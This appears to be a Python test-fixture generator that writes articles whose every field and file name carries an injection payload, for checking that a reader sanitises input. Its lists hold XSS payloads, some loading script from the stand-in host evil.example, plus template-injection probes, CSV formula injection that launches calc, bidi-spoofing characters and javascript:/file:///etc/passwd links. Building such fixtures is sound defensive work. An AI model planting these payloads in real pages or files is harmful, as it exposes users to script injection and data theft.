"""Articles that want to do something to whoever reads them: in every field, and in the names of their files."""

from __future__ import annotations

import csv
import json
from html import escape
from itertools import count, islice
from pathlib import Path

ARTICLES = 200
# What each is one of; `alert(1)` would be a dialog, evil.example a request.
ATTACKS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "\"><img src=x onerror=alert(1)>",
    "<img src='//evil.example/pixel.gif'>", "' onmouseover='alert(1)' autofocus onfocus='alert(1)", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</mark></a></blockquote></main><h1>taken over</h1>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=//evil.example/e.swf>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>*{background:url(//evil.example/b)}</style>", "<style>@import '//evil.example/i.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>", "<form action=//evil.example/><button>Search</button>",
    "<details open ontoggle=alert(1)>", "<a href='javascript:alert(1)'>click</a>", "<video src=//evil.example/v autoplay onerror=alert(1)>",
    "javascript:alert(1)", "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% include 'base.html' %}", "${7*7}", "#{7*7}", "{0.__class__}", "%(name)s %s %n",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202egnp.exe\u202c", "\u2066right\u2069 \u2067left\u2069", "a\u0000b", "\u001b[31mred\u0007", "\u2028\u2029alert(1)", "\ufeff\u200b\u200d",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\"\n=1+1",
    "\U0001f4f0\U00020bb7" * 9, "a\u0301\u0302" + "\u0336" * 60, "x" * 3000, "ﷺ" * 40, "` ${alert(1)} `",
]  # fmt: skip
# Addresses that no link may lead to; the last two may be led to, as the web.
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "file:///etc/passwd", "//evil.example/", "http://[", "blob:x", "https://ok.example/\"onclick=alert(1)//", "https://ok.example/?a=1&b=<i>",
]  # fmt: skip


def write_hostile(folder: Path) -> Path:
    """Write articles, each with an attack in all that it says of itself; return the folder."""
    folder.mkdir()
    numbered = ((n, ATTACKS[n % len(ATTACKS)]) for n in count())
    _write_records(folder / "<b onclick=alert(1)>records.jsonl", list(islice(numbered, 120)))
    _write_table(folder / "=1+1.csv", list(islice(numbered, 20)))
    for n, attack in islice(numbered, 30):
        name = "".join("_" if character in "/\0" else character for character in attack)
        (folder / f"{name[:50]} {n}.txt").write_text(f"hostile {n} {attack}\n\n{attack} hostile text {attack}", "utf-8")
    for n, attack in islice(numbered, 30):
        title = escape(f"hostile {n} {attack}")
        page = f"<title>{title}</title><h1>{title}</h1>{attack}<article><p onclick='alert(1)'>{_sentence(n)} {escape(attack)}</p></article>"
        (folder / f"page {n}.html").write_text(page, "utf-8")
    return folder


def _sentence(n: int) -> str:
    return f"A hostile page, number {n}, says what other pages say, and has something in it that is no sentence at all."


def _write_records(path: Path, numbered: list[tuple[int, str]]) -> None:
    lines = [
        json.dumps({
            "id": f"{n}{attack[:200]}", "title": f"{attack} hostile {n}", "text": f"hostile {attack} text\n\n{attack} and {attack} hostile end {n}.",
            "author": attack, "source": attack, "tags": [attack, f"tag {n}"], "url": ADDRESSES[n % len(ADDRESSES)], "date": f"20{n % 20:02}-03-{n % 28 + 1:02}",
        })
        for n, attack in numbered
    ]  # fmt: skip
    path.write_text("\n".join(lines), "utf-8")


def _write_table(path: Path, numbered: list[tuple[int, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["id", "title", "text", "author", "source", "url"])
        for n, attack in numbered:
            table.writerow([f"{n}", attack, f"hostile {attack} {n}", attack, attack, ADDRESSES[n % len(ADDRESSES)]])
